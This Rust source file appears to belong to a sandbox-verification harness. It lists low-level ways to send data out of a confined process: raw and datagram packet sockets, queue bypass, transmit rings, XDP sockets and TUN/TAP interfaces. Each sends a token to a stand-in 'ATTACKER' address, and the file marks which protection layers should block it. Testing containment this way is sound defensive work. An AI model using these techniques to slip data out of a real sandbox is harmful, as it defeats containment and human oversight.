//! Below the internet protocol: frames of one's own, and interfaces of one's own.

use super::call::{at, link_address, open, permitted, set, special};
use super::{Aim, Failure, Layer, Technique, UNSEEN, packet};
use crate::sys::attempt;
use crate::sys::attempt::message;
use crate::sys::attempt::probe;
use crate::verify::ground::{ATTACKER, INSIDE, INSIDE_LINK, INSIDE_MAC, OUTSIDE_MAC};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("packet", "packet socket, header of its own", "13", UNSEEN, |a| {
        let fd = open(libc::AF_PACKET, libc::SOCK_DGRAM, 0)?;
        let to = address(packet::ETHERTYPE_IPV4)?;
        attempt::sendto(&fd, &datagram(a), 0, Some(&to)).map_err(at("sendto")).map(drop)
    })
    .root_only_in_namespace(FRAMES),
    Technique::wire("packet-raw", "packet socket, frame of its own", "13", UNSEEN, |a| {
        framed(a, packet::ETHERTYPE_IPV4, false)
    })
    .root_only_in_namespace(FRAMES),
    Technique::wire("packet-foreign", "packet socket, made-up protocol", "13", UNSEEN, |a| {
        framed(a, 0x88b6, false)
    })
    .root_only_in_namespace(FRAMES),
    Technique::wire("packet-bypass", "packet socket past the queues", "13", UNSEEN, |a| {
        framed(a, packet::ETHERTYPE_IPV4, true)
    })
    .root_may(FRAMES),
    Technique::wire("packet-ring", "packet socket, transmit ring", "13", UNSEEN, ring)
        .root_may(FRAMES),
    Technique::calls("xdp", "XDP socket", "14", UNSEEN, |_| {
        open(libc::AF_XDP, libc::SOCK_RAW, 0).map(drop)
    })
    .optional()
    .root_may(FRAMES),
    Technique::calls("tun", "a network interface of its own", "14", DEVICE, |_| {
        tunnel(IFF_TUN | IFF_NO_PI)
    })
    .optional()
    .root_may(DEVICES),
    Technique::calls("tap", "an Ethernet interface of its own", "14", DEVICE, |_| {
        tunnel(IFF_TAP | IFF_NO_PI)
    })
    .optional()
    .root_may(DEVICES),
];

fn datagram(aim: &Aim) -> Vec<u8> {
    packet::udp4(INSIDE, ATTACKER, 443, aim.token.as_bytes())
}

fn address(ethertype: u16) -> Result<Vec<u8>, Failure> {
    let index = nix::net::if_::if_nametoindex(INSIDE_LINK).map_err(at("if_nametoindex"))?;
    Ok(link_address(index, ethertype, OUTSIDE_MAC))
}

fn framed(aim: &Aim, ethertype: u16, past_queues: bool) -> Result<(), Failure> {
    let fd = open(libc::AF_PACKET, libc::SOCK_RAW, 0)?;
    if past_queues {
        set(&fd, libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS, &1_i32.to_ne_bytes())?;
    }
    let frame = packet::frame(OUTSIDE_MAC, INSIDE_MAC, ethertype, &datagram(aim));
    let to = address(ethertype)?;
    attempt::sendto(&fd, &frame, 0, Some(&to)).map_err(at("sendto")).map(drop)
}

fn ring(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_PACKET, libc::SOCK_RAW, 0)?;
    let frame = packet::frame(OUTSIDE_MAC, INSIDE_MAC, packet::ETHERTYPE_IPV4, &datagram(aim));
    message::send_by_ring(&fd, &frame, &address(packet::ETHERTYPE_IPV4)?).map_err(at("tx-ring"))
}

fn tunnel(flags: i16) -> Result<(), Failure> {
    let device = special("/dev/net/tun", std::fs::File::options().read(true).write(true))?;
    permitted("ioctl", probe::tun_interface(&device, flags))
}

const IFF_TUN: i16 = 1;
const IFF_TAP: i16 = 2;
const IFF_NO_PI: i16 = 0x1000;
const DEVICE: &[Layer] = &[Layer::Seccomp, Layer::Landlock, Layer::Permission, Layer::Capability];
const FRAMES: &str = "cgroup programs do not see frames; it needs CAP_NET_RAW, which no role has";
const DEVICES: &str = "cgroup programs do not see devices; it needs CAP_NET_ADMIN, no role has it";
